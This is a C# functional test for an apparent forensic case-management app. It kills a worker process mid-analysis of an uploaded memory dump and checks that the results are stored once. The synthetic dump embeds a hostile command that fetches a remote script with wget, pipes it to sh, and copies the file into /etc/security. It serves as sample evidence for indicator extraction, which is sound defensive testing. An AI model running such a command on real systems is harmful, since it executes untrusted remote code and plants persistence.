using System.Diagnostics;
using CaseManager.Application.Cases.Commands.OpenCase;
using CaseManager.Application.Clients.Commands.CreateClient;
using CaseManager.Application.Evidence.Commands.AppendChunk;
using CaseManager.Application.Evidence.Commands.BeginUpload;
using CaseManager.Application.Evidence.Commands.CompleteUpload;
using CaseManager.Application.Evidence.Queries.GetEvidence;
using CaseManager.Domain.Cases;
using CaseManager.Domain.Evidence;
using Microsoft.EntityFrameworkCore;

namespace CaseManager.Application.FunctionalTests.Evidence;

/// <summary>
/// A real worker process is killed (SIGKILL) while it analyses evidence; a second worker process picks
/// the job up once its invisibility timeout expires, and the item ends with one run's results, stored once.
/// Web-only host in this process; the workers are the real app (CaseManager.Web.dll, ProcessRoles=worker) on the same SQLite files.
/// </summary>
public sealed class WorkerCrashTests(SqliteApp app) : IClassFixture<SqliteApp>
{
    private const long Size = 384L * 1024 * 1024;
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(120);

    [Fact]
    public async Task WorkerKilledMidAnalysis_JobRunsAgainOnAnotherWorker_AndResultsAreStoredOnce()
    {
        var evidenceId = await UploadLargeDumpAsync();

        using (var doomed = StartWorker())
        {
            await doomed.WaitForLineAsync("Request AnalyseEvidenceCommand").WaitAsync(Patience);
            doomed.Process.Kill(entireProcessTree: true);
            await doomed.Process.WaitForExitAsync();
        }

        var afterKill = await app.SendAsync(new GetEvidenceQuery(evidenceId));
        afterKill.Status.ShouldBeOneOf(AnalysisStatus.Queued, AnalysisStatus.Running);
        afterKill.Findings.ShouldBeEmpty();

        using (var rescuer = StartWorker())
        {
            await rescuer.WaitForLineAsync($"Evidence {evidenceId} analysed").WaitAsync(Patience);
            rescuer.Process.Kill(entireProcessTree: true);
        }

        var item = await app.SendAsync(new GetEvidenceQuery(evidenceId));
        item.Status.ShouldBeOneOf(AnalysisStatus.Succeeded, AnalysisStatus.SucceededWithWarnings);
        item.Indicators.ShouldContain(i => i.Value == "sjb555.3322.org");
        var rows = await app.InDbAsync(db => db.EvidenceIndicators.Where(i => i.EvidenceId == new EvidenceId(evidenceId)).ToListAsync());
        rows.Select(r => r.Run).Distinct().ShouldBe([item.Run]);
        rows.Count.ShouldBe(rows.Select(r => (r.Type, r.Value)).Distinct().Count(), "no indicator is stored twice");
        item.Custody.Count(c => c.Action == CustodyAction.Analysed).ShouldBe(1);
    }

    private async Task<Guid> UploadLargeDumpAsync()
    {
        var clientId = await app.SendAsync(new CreateClientCommand("Crash test " + Guid.NewGuid().ToString("N")[..6], null, null, []));
        var caseId = await app.SendAsync(new OpenCaseCommand(clientId, "Fake kworker", null, Severity.High, TrafficLightProtocol.Amber));
        var uploadId = await app.SendAsync(new BeginEvidenceUploadCommand(caseId, "kworker.mem", Size));
        const int chunk = 64 * 1024 * 1024;
        for (long offset = 0; offset < Size; offset += chunk)
        {
            var length = Math.Min(chunk, Size - offset);
            await app.SendAsync(new AppendEvidenceChunkCommand(uploadId, offset,
                new GeneratedStream(offset, length, marker: "wget http://sjb555.3322.org/ntps | sh; cp ntps /etc/security/ntps.conf ")));
        }

        return await app.SendAsync(new CompleteEvidenceUploadCommand(uploadId, "crash test"));
    }

    private WorkerProcess StartWorker()
    {
        var start = new ProcessStartInfo("dotnet", Path.Combine(AppContext.BaseDirectory, "CaseManager.Web.dll"))
        {
            WorkingDirectory = app.Database.DataDirectory,
            RedirectStandardOutput = true,
            RedirectStandardError = true,
            UseShellExecute = false,
        };
        start.Environment["ASPNETCORE_ENVIRONMENT"] = "Testing";
        start.Environment["ASPNETCORE_URLS"] = "http://127.0.0.1:0";
        start.Environment["ConnectionStrings__Postgres"] = string.Empty;
        start.Environment["DataDirectory"] = app.Database.DataDirectory;
        start.Environment["ProcessRoles"] = "worker";
        start.Environment["Seed__AdminEmail"] = TestApp.AdminEmail;
        start.Environment["Seed__AdminPassword"] = TestApp.AdminPassword;
        start.Environment["Hangfire__WorkerCount"] = "1";
        start.Environment["Hangfire__InvisibilityTimeoutSeconds"] = "3";
        start.Environment["Logging__LogLevel__Default"] = "Information";
        return new WorkerProcess(Process.Start(start)!);
    }

    /// <summary>A worker process whose output lines the test can wait for.</summary>
    private sealed class WorkerProcess : IDisposable
    {
        private readonly List<(string Text, TaskCompletionSource Seen)> _waits = [];
        private readonly Lock _gate = new();
        private readonly List<string> _lines = [];

        public WorkerProcess(Process process)
        {
            Process = process;
            process.OutputDataReceived += (_, e) => OnLine(e.Data);
            process.ErrorDataReceived += (_, e) => OnLine(e.Data);
            process.BeginOutputReadLine();
            process.BeginErrorReadLine();
        }

        public Process Process { get; }

        public Task WaitForLineAsync(string text)
        {
            lock (_gate)
            {
                var seen = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
                if (_lines.Any(l => l.Contains(text, StringComparison.Ordinal)))
                {
                    seen.SetResult();
                }
                else
                {
                    _waits.Add((text, seen));
                }

                return seen.Task;
            }
        }

        public void Dispose()
        {
            if (!Process.HasExited)
            {
                Process.Kill(entireProcessTree: true);
            }

            Process.Dispose();
        }

        private void OnLine(string? line)
        {
            if (line is null)
            {
                return;
            }

            lock (_gate)
            {
                _lines.Add(line);
                foreach (var (text, seen) in _waits.Where(w => line.Contains(w.Text, StringComparison.Ordinal)))
                {
                    seen.TrySetResult();
                }
            }
        }
    }
}
